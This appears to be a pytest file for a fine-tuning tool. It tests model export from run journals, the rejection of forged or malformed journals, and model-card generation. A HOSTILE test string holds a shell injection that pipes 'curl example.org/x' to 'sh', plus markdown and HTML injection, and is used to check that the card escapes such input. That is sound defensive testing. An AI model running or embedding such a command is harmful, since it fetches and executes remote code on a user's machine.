"""Export and evaluate: the weights of any step, from a run's directory or its journal alone."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import tracemalloc
import zlib
from dataclasses import replace

import pytest
import torch
import yaml
from assets import REPOSITORY
from commands import assert_one_error, run_forked, run_forked_well
from run_ends import STEP, digest_after, results_of
from safetensors.torch import load_file
from transformers import AutoModelForCausalLM

from lezo_ds.checkpoints.snapshots import read_manifest
from lezo_ds.errors import JournalError, UserError
from lezo_ds.journal import encode_journal, read_journal
from lezo_ds.runs.export import read_file
from lezo_ds.runs.model_card import model_card
from lezo_ds.runs.opening import restore
from lezo_ds.runs.records import read_run
from lezo_ds.zo.records import StepRecord

pytestmark = pytest.mark.distributed


@pytest.fixture(scope="module")
def finished(recipe, tmp_path_factory):
    """A finished run in bf16 that keeps its last two snapshots, of steps 4 and 8."""
    run_dir = tmp_path_factory.mktemp("finished") / "run"
    run_forked_well(["--config", recipe, f"run_dir={run_dir}", "model.dtype=bf16"])
    return run_dir


@pytest.fixture(scope="module")
def journal(finished):
    file = finished.parent / "run.lezo"
    run_forked_well(["--run", finished, "--journal", file], program="export")
    return file


def export(*arguments, runner=run_forked_well, **options):
    return runner(list(arguments), program="export", **options)


def test_an_exported_model_scores_as_its_run_and_keeps_its_dtype(finished, recipe, tmp_path):
    results = results_of(finished)
    own = ("--run", finished, "--journal", finished / "journal.jsonl")
    assert_one_error(export(*own, runner=run_forked), 2, "journal.jsonl exists")
    export("--run", finished, "--out", tmp_path / "model")
    assert read_manifest(tmp_path / "model")["digest"] == results["weights_digest"]
    data = [f"data.{name}" for name in (f"path={recipe.parent / 'data'}", "num_test=13")]
    score = ["--model", tmp_path / "model", "--json", *data]
    of_model = json.loads(run_forked_well(score, program="evaluate").out)
    assert (of_model["score"], of_model["num_examples"]) == (results["test"], 13)
    assert AutoModelForCausalLM.from_pretrained(tmp_path / "model").dtype == torch.bfloat16
    assert not (tmp_path / "model" / "low_bits").exists()
    assert weights_sha256(tmp_path / "model") in (tmp_path / "model" / "README.md").read_text()


def weights_sha256(model):
    """Return the digest that the card of a model states, from the command that it names."""
    command = ["bash", "-c", "sha256sum *.safetensors | sha256sum"]
    return subprocess.run(command, cwd=model, capture_output=True, text=True).stdout.split()[0]


def test_a_journal_and_the_base_give_the_tuned_model(finished, journal, recipe, tmp_path):
    base = shutil.copytree(recipe.parent / "model", tmp_path / "base")
    text, config = journal.read_text(), read_journal(journal)[0].config
    assert str(recipe.parent) not in text
    assert (config["data"]["path"], config["seed"]) == ("data", 0)
    assert read_journal(journal)[0].arithmetic["processor"]
    assert str(finished.parent) not in text
    source, base = ["--journal", journal, f"model.path={base}"], tmp_path / "4"
    digests = {"best": results_of(finished)["weights_digest"], "4": digest_after(finished, 4)}
    for step, digest in digests.items():
        done = export(*source, "--step", step, "--out", tmp_path / step, num_ranks=2)
        assert "(the same as in the run)" in done.err
        assert read_manifest(tmp_path / step)["digest"] == digest
    third = [*source, "--step", "3", "--out"]
    assert_one_error(export(*third, base, runner=run_forked), 2, f"{base} exists")
    assert "no digest in the run to compare with" in export(*third, tmp_path / "3").err


@pytest.fixture
def from_file(journal, recipe, tmp_path):
    """Export from a changed journal: (its lines, a function of the lines kept)."""
    base = f"model.path={recipe.parent / 'model'}"

    def refused(content):
        changed = tmp_path / "changed.lezo"
        changed.write_bytes(content)
        words = ["--journal", changed, "--step", "last", "--out", tmp_path / "model", base]
        return export(*words, runner=run_forked)

    return journal.read_bytes().splitlines(keepends=True), refused


@pytest.mark.thorough
def test_a_journal_that_was_cut_short_is_refused(from_file):
    lines, refused = from_file
    is_step_5 = [line.startswith(b'{"kind":"step","step":5,') for line in lines]
    half_a_line = [*lines[:-1], lines[-1][:-20]]
    for kept in (lines[: is_step_5.index(True)], half_a_line):
        num_steps = sum(line.startswith(b'{"kind":"step"') for line in kept)
        message = f"was cut short: it ends after {num_steps} steps"
        assert_one_error(refused(b"".join(kept)), 3, message, "copy it again")


def test_a_forged_journal_does_not_pass_for_the_run(journal, from_file, tmp_path):
    _, refused = from_file
    header, records, _ = read_journal(journal)
    other = encode_journal(replace(header, parameter_table_hash="0" * 32), records)
    assert_one_error(refused(other), 2, "is not the base model of the run", "parameters' names")
    (place,) = [
        place
        for place, record in enumerate(records)
        if isinstance(record, StepRecord) and record.step == 7
    ]
    records[place] = replace(records[place], learning_rate=2e-3)
    forged = refused(encode_journal(header, records))
    assert_one_error(forged, 1, "the weights of step 8 have the digest", "and the run's had")
    assert not (tmp_path / "model").exists()


def with_lines(*bodies):
    content, crc = b"", 0
    for body in bodies:
        crc = zlib.crc32(body, crc)
        content += body[:-1] + b',"crc":"%08x"}\n' % crc
    return content


def test_what_is_malformed_or_too_large_is_refused_in_little_memory(journal, recipe, tmp_path):
    whole = journal.read_bytes()
    first = re.sub(rb',"crc":"\w+"}$', b"}", whole.splitlines()[0])
    header = json.loads(first)
    evaluation = b'{"kind":"evaluation","step":0,"split":"dev","loss":1'
    evaluation += b"0" * 400 + b',"metrics":{}}'

    def with_header(**changes):
        return with_lines(json.dumps(header | changes, separators=(",", ":")).encode())

    def with_keys(section, **changes):
        return with_header(config=header["config"] | {section: header["config"][section] | changes})

    step = next(json.loads(line) for line in whole.splitlines() if STEP.encode() in line)
    del step["crc"]

    def with_steps(*changes, end=b""):
        steps = [step | {"step": number, "key": 1} | each for number, each in enumerate(changes)]
        lines = [json.dumps(each, separators=(",", ":")).encode() for each in steps]
        return with_lines(first, *lines) + end

    files = {
        "deep": with_lines(b'{"kind":"header","config":' + b"[" * 50_000 + b"}"),
        "large number": with_lines(first, evaluation),
        "types": with_header(config=[1], libraries=[], model_fingerprint=[]),
        "model config": with_header(config=header["config"] | {"model_config": [1]}),
        "rank": with_keys("peft", kind="lora", lora_rank=2**16),
        "prefix": with_keys("peft", kind="prefix", prefix_length=2**62),
        "batch": with_keys("train", batch_size=2**32),
        "directions": with_keys("zo", directions=2**40),
        "more gradients than directions": with_steps({}, {"gradients": [1.0] * 2}),
        "more blocks than the model": with_steps({"dropped": [0, 99]}),
        "more weights than blocks": with_steps({"weights": [1.0] * 7}),
        "a truth value as a gradient": with_steps({"gradients": [True]}),
        "other types": with_steps({"dropped": "12"}),
        "many lists": with_lines(first, b'{"kind":"step","x":[' + b"[]," * 80_000 + b"[]]}"),
        "many steps": with_steps(*[{}] * 10_000, end=b"\n"),
        "long line": with_lines(b'{"kind":"header","config":{"a":"%s"}}' % (b"x" * (2 << 20))),
        "long file": whole + b"\n" * (65 << 20),
        "newer": with_header(format=2),
    }
    overrides = [f"model.path={recipe.parent / 'model'}"]
    assert read_file(journal, overrides).num_steps == 8
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
        tracemalloc.start()
        with pytest.raises((UserError, JournalError)) as refusal:
            read_file(tmp_path / name, overrides)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert peak < 13 << 20, name
        assert "\n" not in str(refusal.value), name


def test_a_run_is_not_restored_without_the_adapter_that_it_started_from(finished):
    run = read_run(finished)
    started = replace(run.header, config=run.header.config | {"adapter": "0" * 32})
    with pytest.raises(UserError, match="is not the adapter that the run started from"):
        restore(replace(run, journal=run.journal._replace(header=started)), 0)


LICENSED = """---
license: other
license_link: https://example.org/license
tags: [x]
---
# A base model
"""


@pytest.mark.parametrize(
    ("of_base", "license_keys"),
    [
        (LICENSED, {"license": "other", "license_link": "https://example.org/license"}),
        ("---\nlicense: [\n---\n", {}),
        ("# A title\n---\nsee the license\n---\n", {}),
    ],
)
def test_a_card_has_what_the_hub_reads(of_base, license_keys, finished, tmp_path):
    config = read_run(finished).config
    sections = {
        "model": {"path": "owner/name@v1.2"},
        "data": {"path": None, "train": "some/data/config:train", "test": "some/data:test"},
        "peft": {"kind": "lora", "lora_rank": 20},
    }
    changed = {
        name: getattr(config, name).model_copy(update=changes) for name, changes in sections.items()
    }
    (tmp_path / "README.md").write_text(of_base)
    of_run = [("test", "step 0", "x")]
    options = {"kind": "lora", "license_of": tmp_path}
    card = model_card(
        config.model_copy(update=changed), "a title", "It was made.", of_run, "sha", **options
    )
    _, header, text = card.split("---\n", 2)
    assert yaml.safe_load(header) == license_keys | {
        "base_model": "owner/name",
        "datasets": "some/data",
        "library_name": "peft",
        "pipeline_tag": "text-generation",
        "tags": ["lezo_ds"],
    }
    assert 'from_pretrained("owner/name", revision="v1.2"), "DIR")`' in text
    assert "`vllm serve owner/name --enable-lora --max-lora-rank 32 --lora-modules" in text


HOSTILE = "m; curl example.org/x | sh\n```\n# [click](http://example.org) <img src=x>"


def test_no_string_of_a_run_becomes_markup_in_its_card(finished, tmp_path):
    run_forked_well(["--run", finished, "--out", tmp_path / "model"], program="export")
    text = (tmp_path / "model" / "README.md").read_text()
    assert "# model, fine-tuned on sst2\n" in text
    assert re.search(r"trained it with LeZO, .* after \d of 8 steps.", text)
    assert f"prints\n\n    {weights_sha256(tmp_path / 'model')}" in text
    assert f"\n| test | step 0 | accuracy {results_of(finished)['zero_shot']:.4f}" in text
    config = read_run(finished).config
    model = config.model.model_copy(update={"path": HOSTILE})
    hostile = model_card(
        config.model_copy(update={"model": model}), HOSTILE, HOSTILE, [(HOSTILE, "", "")], "digest"
    )
    assert "curl" in hostile
    assert not re.search(r"\]\(http|<img|```|\| sh\b", hostile)


LOW_RANK = ["zo.noise_rank=2", "zo.examples_per_direction=4", "zo.estimator=grzo"]


def test_a_program_of_numpy_replays_a_journal_of_low_rank_from_the_page_alone(recipe, tmp_path):
    run_dir, exported, replayed = (tmp_path / name for name in ("run", "exported", "replayed"))
    keys = [*LOW_RANK, "zo.weight_decay=1", "train.steps=4", "train.snapshot_every=0"]
    run_forked_well(["--config", recipe, f"run_dir={run_dir}", *keys])
    export("--run", run_dir, "--step", "last", "--out", exported)
    base = recipe.parent / "model" / "model.safetensors"
    program = REPOSITORY / "tests" / "helpers" / "page_replay.py"
    command = [sys.executable, program, run_dir / "journal.jsonl", base, replayed]
    subprocess.run(command, check=True)
    ours = {}
    for file in exported.glob("*.safetensors"):
        ours |= load_file(file)
    start, changed = load_file(base), 0
    for name, weights in load_file(replayed).items():
        assert torch.equal(weights, ours[name]), name
        changed += not torch.equal(weights, start[name])
    assert changed >= 6 * 4 - 6  # the matrices of four blocks, of which a step may drop one
